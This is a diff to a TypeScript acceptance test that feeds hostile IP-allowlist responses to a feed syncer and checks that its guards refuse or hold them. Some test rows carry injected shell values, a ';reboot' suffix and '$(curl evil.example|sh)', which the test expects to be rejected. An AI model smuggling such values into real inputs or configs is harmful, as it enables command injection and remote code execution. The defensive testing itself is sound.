@@ -1,7 +1,9 @@
 /**
  * Acceptance 3: hostile upstream responses, served by a real local HTTP server and fetched with
  * the real global fetch, and the outcome of each. Every refusal keeps the previous snapshot
- * untouched; every accepted body comes out canonical.
+ * untouched; every accepted body comes out canonical; a well-formed list that removes too much
+ * is held (never refused). Feed contents are public stand-ins (11.0.2.0/24, 12.51.100.0/24,
+ * 13.0.113.0/24, 2a0b:db8::/32) for the documentation ranges, which reserved-space refuses.
  */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import {
@@ -51,7 +53,7 @@ const html = '<!DOCTYPE html><html><head><title>Just a moment...</title></head><
 const meta = (extra: Record<string, unknown>) =>
   JSON.stringify({
     verifiable_password_authentication: false,
-    hooks: ['192.0.2.0/24', '2001:db8::/32'],
+    hooks: ['11.0.2.0/24', '2a0b:db8::/32'],
     web: [],
     ...extra,
   })
@@ -62,12 +64,12 @@ interface Row {
   readonly feed: FeedDefinition
   readonly serve: MirrorEntry | { readonly withPort: (port: string) => MirrorEntry }
   readonly guards?: Partial<GuardOptions>
-  /** A guard name, or the canonical lists of an accepted body. */
-  readonly expect: GuardName | { ipv4: string[]; ipv6: string[] }
+  /** A refusing guard name, a held one, or the canonical lists of an accepted body. */
+  readonly expect: GuardName | { held: GuardName } | { ipv4: string[]; ipv6: string[] }
   readonly reason?: RegExp
 }
 
-// Accepted bodies always keep the baseline 192.0.2.0/24 + 2001:db8::/32 so that no row trips the
+// Accepted bodies always keep the baseline 11.0.2.0/24 + 2a0b:db8::/32 so that no row trips the
 // mass-removal guard by accident; the rows that test removal say so.
 const ROWS: Row[] = [
   {
@@ -111,14 +113,14 @@ const ROWS: Row[] = [
   {
     name: 'a non-string inside `hooks`',
     feed: HOOKS,
-    serve: meta({ hooks: ['192.0.2.0/24', 42] }),
+    serve: meta({ hooks: ['11.0.2.0/24', 42] }),
     expect: 'schema-drift',
   },
   {
     name: 'body over the size limit (Content-Length)',
     feed: LIST,
     guards: { maxBodyBytes: 1024 },
-    serve: '192.0.2.0/24\n'.repeat(400),
+    serve: '11.0.2.0/24\n'.repeat(400),
     expect: 'oversized',
     reason: /Content-Length/,
   },
@@ -128,7 +130,7 @@ const ROWS: Row[] = [
     guards: { maxBodyBytes: 1024 },
     serve: (_req, res) => {
       res.writeHead(200, { 'content-type': 'text/plain' })
-      for (let i = 0; i < 100; i++) res.write('192.0.2.0/24\n')
+      for (let i = 0; i < 100; i++) res.write('11.0.2.0/24\n')
       res.end()
     },
     expect: 'oversized',
@@ -137,27 +139,27 @@ const ROWS: Row[] = [
   {
     name: 'CIDR string containing a newline',
     feed: JSON_FEED,
-    serve: json(['192.0.2.0/24\n203.0.113.0/24']),
+    serve: json(['11.0.2.0/24\n13.0.113.0/24']),
     expect: 'invalid-entry',
     reason: /\\n/,
   },
   {
     name: 'CIDR string with a shell metacharacter (;)',
     feed: JSON_FEED,
-    serve: json(['192.0.2.0/24;reboot']),
+    serve: json(['11.0.2.0/24;reboot']),
     expect: 'invalid-entry',
   },
   {
     name: 'CIDR string with a command substitution',
     feed: LIST,
-    serve: '192.0.2.0/24\n$(curl evil.example|sh)\n',
+    serve: '11.0.2.0/24\n$(curl evil.example|sh)\n',
     expect: 'invalid-entry',
     reason: /line 2/,
   },
   {
     name: 'IPv4-mapped IPv6',
     feed: LIST,
-    serve: '192.0.2.0/24\n::ffff:198.51.100.7\n',
+    serve: '11.0.2.0/24\n::ffff:12.51.100.7\n',
     expect: 'invalid-entry',
     reason: /IPv4-mapped/,
   },
@@ -175,8 +177,8 @@ const ROWS: Row[] = [
     expect: 'invalid-entry',
     reason: /zone id/,
   },
-  { name: '0.0.0.0/0', feed: LIST, serve: '192.0.2.0/24\n0.0.0.0/0\n', expect: 'allow-all' },
-  { name: '::/0', feed: JSON_FEED, serve: json(['2001:db8::/32', '::/0']), expect: 'allow-all' },
+  { name: '0.0.0.0/0', feed: LIST, serve: '11.0.2.0/24\n0.0.0.0/0\n', expect: 'allow-all' },
+  { name: '::/0', feed: JSON_FEED, serve: json(['2a0b:db8::/32', '::/0']), expect: 'allow-all' },
   {
     name: 'two halves that cover all of IPv4',
     feed: LIST,
@@ -187,52 +189,51 @@ const ROWS: Row[] = [
   {
     name: 'an IPv6 entry in an IPv4-only file',
     feed: COOLIFY,
-    serve: '192.0.2.1\n2001:db8::1\n',
+    serve: '11.0.2.1\n2a0b:db8::1\n',
     expect: 'invalid-entry',
     reason: /IPv4-only/,
   },
   {
     name: 'not an address at all',
     feed: LIST,
-    serve: '192.0.2.0/24\n999.1.2.3\n',
+    serve: '11.0.2.0/24\n999.1.2.3\n',
     expect: 'invalid-entry',
   },
   {
     name: 'duplicates and overlaps are merged',
     feed: LIST,
-    serve:
-      '192.0.2.0/24\n192.0.2.0/24\n192.0.2.128/25\n192.0.2.7\n2001:db8::/32\n2001:DB8:0:0::/48\n',
-    expect: { ipv4: ['192.0.2.0/24'], ipv6: ['2001:db8::/32'] },
+    serve: '11.0.2.0/24\n11.0.2.0/24\n11.0.2.128/25\n11.0.2.7\n2a0b:db8::/32\n2A0B:DB8:0:0::/48\n',
+    expect: { ipv4: ['11.0.2.0/24'], ipv6: ['2a0b:db8::/32'] },
   },
   {
     name: 'a UTF-8 BOM',
     feed: LIST,
-    serve: '\uFEFF192.0.2.0/24\n2001:db8::/32\n',
-    expect: { ipv4: ['192.0.2.0/24'], ipv6: ['2001:db8::/32'] },
+    serve: '\uFEFF11.0.2.0/24\n2a0b:db8::/32\n',
+    expect: { ipv4: ['11.0.2.0/24'], ipv6: ['2a0b:db8::/32'] },
   },
   {
     name: 'a UTF-8 BOM before JSON',
     feed: JSON_FEED,
-    serve: `\uFEFF${json(['192.0.2.0/24', '2001:db8::/32'])}`,
-    expect: { ipv4: ['192.0.2.0/24'], ipv6: ['2001:db8::/32'] },
+    serve: `\uFEFF${json(['11.0.2.0/24', '2a0b:db8::/32'])}`,
+    expect: { ipv4: ['11.0.2.0/24'], ipv6: ['2a0b:db8::/32'] },
   },
   {
     name: 'CRLF line ends',
     feed: LIST,
-    serve: '192.0.2.0/24\r\n198.51.100.0/24\r\n2001:db8::/32\r\n',
-    expect: { ipv4: ['192.0.2.0/24', '198.51.100.0/24'], ipv6: ['2001:db8::/32'] },
+    serve: '11.0.2.0/24\r\n12.51.100.0/24\r\n2a0b:db8::/32\r\n',
+    expect: { ipv4: ['11.0.2.0/24', '12.51.100.0/24'], ipv6: ['2a0b:db8::/32'] },
   },
   {
     name: 'comment lines, trailing comments and blank lines',
     feed: LIST,
-    serve: '# published list\n\n192.0.2.0/24  # office\n   \n# 203.0.113.0/24\n2001:db8::/32\n',
-    expect: { ipv4: ['192.0.2.0/24'], ipv6: ['2001:db8::/32'] },
+    serve: '# published list\n\n11.0.2.0/24  # office\n   \n# 13.0.113.0/24\n2a0b:db8::/32\n',
+    expect: { ipv4: ['11.0.2.0/24'], ipv6: ['2a0b:db8::/32'] },
   },
   {
     name: 'host bits set: the network is used',
     feed: LIST,
-    serve: '192.0.2.77/24\n2001:db8::1/32\n',
-    expect: { ipv4: ['192.0.2.0/24'], ipv6: ['2001:db8::/32'] },
+    serve: '11.0.2.77/24\n2a0b:db8::1/32\n',
+    expect: { ipv4: ['11.0.2.0/24'], ipv6: ['2a0b:db8::/32'] },
   },
   { name: 'an empty body', feed: LIST, serve: '', expect: 'empty' },
   { name: 'only comments', feed: LIST, serve: '# nothing today\n', expect: 'empty' },
@@ -277,7 +278,7 @@ const ROWS: Row[] = [
     serve: {
       withPort: (port) => respond(307, { location: `http://127.0.0.1:${port}/hostile.test/moved` }),
     },
-    expect: { ipv4: ['192.0.2.0/24', '203.0.113.0/24'], ipv6: ['2001:db8::/32'] },
+    expect: { ipv4: ['11.0.2.0/24', '13.0.113.0/24'], ipv6: ['2a0b:db8::/32'] },
   },
   {
     name: 'a redirect loop on the same host',
@@ -299,7 +300,7 @@ const ROWS: Row[] = [
     guards: { timeoutMs: 300 },
     serve: (_req, res) => {
       res.writeHead(200, { 'content-type': 'text/plain' })
-      res.write('192.0.2.0/24\n')
+      res.write('11.0.2.0/24\n')
     },
     expect: 'timeout',
     reason: /body/,
@@ -307,34 +308,77 @@ const ROWS: Row[] = [
   {
     name: 'half the IPv4 addresses gone is allowed (limit: more than half)',
     feed: LIST,
-    serve: '192.0.2.0/25\n2001:db8::/32\n',
-    expect: { ipv4: ['192.0.2.0/25'], ipv6: ['2001:db8::/32'] },
+    serve: '11.0.2.0/25\n2a0b:db8::/32\n',
+    expect: { ipv4: ['11.0.2.0/25'], ipv6: ['2a0b:db8::/32'] },
   },
   {
-    name: 'more than half the IPv4 addresses gone',
+    name: 'more than half the IPv4 addresses gone: held',
     feed: LIST,
-    serve: '192.0.2.0/26\n2001:db8::/32\n',
-    expect: 'mass-removal',
+    serve: '11.0.2.0/26\n2a0b:db8::/32\n',
+    expect: { held: 'mass-removal' },
     reason: /75\.00% of the IPv4/,
   },
   {
-    name: 'every IPv6 address gone',
+    name: 'every IPv6 address gone: held',
     feed: LIST,
-    serve: '192.0.2.0/24\n',
-    expect: 'mass-removal',
+    serve: '11.0.2.0/24\n',
+    expect: { held: 'mass-removal' },
     reason: /every IPv6/,
+  },
+  {
+    name: 'a documentation range in a built-in feed',
+    feed: COOLIFY,
+    serve: '11.0.2.1\n192.0.2.1\n',
+    expect: 'reserved-space',
+    reason:
+      /line 2: "192\.0\.2\.1" reaches into special-purpose space 192\.0\.2\.0\/24 \(Documentation/,
+  },
+  {
+    name: '10.0.0.0/8 hidden in a JSON list',
+    feed: JSON_FEED,
+    serve: json(['11.0.2.0/24', '2a0b:db8::/32', '10.0.0.0/8']),
+    expect: 'reserved-space',
+    reason: /\$\["cidrs"\]\[2\]: "10\.0\.0\.0\/8" .*Private-Use, RFC 1918.*allow-reserved/,
+  },
+  {
+    name: '0.0.0.0/1: half of IPv4, reaching into 0.0.0.0/8',
+    feed: LIST,
+    serve: '11.0.2.0/24\n0.0.0.0/1\n2a0b:db8::/32\n',
+    expect: 'reserved-space',
+    reason: /"0\.0\.0\.0\/1".*"This network"/,
+  },
+  {
+    name: 'a prefix broader than the feed limit (two /8s merge into a /7)',
+    feed: LIST,
+    serve: '11.0.2.0/24\n2a0b:db8::/32\n12.0.0.0/8\n13.0.0.0/8\n',
+    expect: 'too-broad',
+    reason: /12\.0\.0\.0\/7 is broader than the IPv4 limit of test\/lines, \/8/,
+  },
+  {
+    name: 'a built-in feed past its own limit (coolify/cloud: /24)',
+    feed: COOLIFY,
+    serve: '11.0.0.0/23\n',
+    expect: 'too-broad',
+    reason: /11\.0\.0\.0\/23 is broader than the IPv4 limit of coolify\/cloud, \/24/,
+  },
+  {
+    name: 'the IPv4 addresses more than double (+131,072): held',
+    feed: LIST,
+    serve: '11.0.2.0/24\n2a0b:db8::/32\n14.0.0.0/15\n',
+    expect: { held: 'mass-addition' },
+    reason: /IPv4 addresses of version 7 would grow 513\.00-fold, by more than a \/16/,
   },
   {
     name: 'every address gone, mass removal allowed',
     feed: LIST,
     guards: { allowMassRemoval: true },
-    serve: '198.51.100.0/24\n',
-    expect: { ipv4: ['198.51.100.0/24'], ipv6: [] },
+    serve: '12.51.100.0/24\n',
+    expect: { ipv4: ['12.51.100.0/24'], ipv6: [] },
   },
 ]
 
 async function baseline(feed: string): Promise<Snapshot> {
-  const lists = { ipv4: ['192.0.2.0/24'], ipv6: ['2001:db8::/32'] }
+  const lists = { ipv4: ['11.0.2.0/24'], ipv6: ['2a0b:db8::/32'] }
   return {
     feed,
     version: 7,
@@ -363,15 +407,24 @@ describe('hostile upstream responses', () => {
       typeof row.serve === 'object' && 'withPort' in row.serve
         ? row.serve.withPort(port)
         : row.serve
-    mirror.files['hostile.test/moved'] = '192.0.2.0/24\n203.0.113.0/24\n2001:db8::/32\n'
-    mirror.files['coolify.io/ipv6.txt'] = '2001:db8::/32'
+    mirror.files['hostile.test/moved'] = '11.0.2.0/24\n13.0.113.0/24\n2a0b:db8::/32\n'
+    mirror.files['coolify.io/ipv6.txt'] = '2a0b:db8::/32'
     const previous = await baseline(row.feed.id)
     const { outcomes } = await syncViaMirror(mirror, [row.feed], {
       previous: { [row.feed.id]: previous },
       guards: row.guards ?? {},
     })
     const outcome = outcomes[0]!
-    if (typeof row.expect === 'string') {
+    if (typeof row.expect === 'object' && 'held' in row.expect) {
+      expect(outcome, JSON.stringify(outcome)).toMatchObject({
+        kind: 'held',
+        guard: row.expect.held,
+        previous,
+        candidate: { version: 8 },
+        change: { previousVersion: 7, version: 8 },
+      })
+      if (row.reason) expect(outcome.kind === 'held' && outcome.reason).toMatch(row.reason)
+    } else if (typeof row.expect === 'string') {
       expect(outcome, JSON.stringify(outcome)).toMatchObject({ kind: 'refused', guard: row.expect })
       if (outcome.kind !== 'refused') return
       expect(outcome.previous).toBe(previous)
@@ -382,7 +435,7 @@ describe('hostile upstream responses', () => {
       const same =
         JSON.stringify(row.expect) === JSON.stringify({ ipv4: previous.ipv4, ipv6: previous.ipv6 })
       expect(outcome.kind, JSON.stringify(outcome)).toBe(same ? 'unchanged' : 'changed')
-      if (outcome.kind === 'refused') return
+      if (outcome.kind === 'refused' || outcome.kind === 'held') return
       expect({ ipv4: outcome.snapshot.ipv4, ipv6: outcome.snapshot.ipv6 }).toEqual(row.expect)
       expect(outcome.snapshot.version).toBe(same ? 7 : 8)
     }
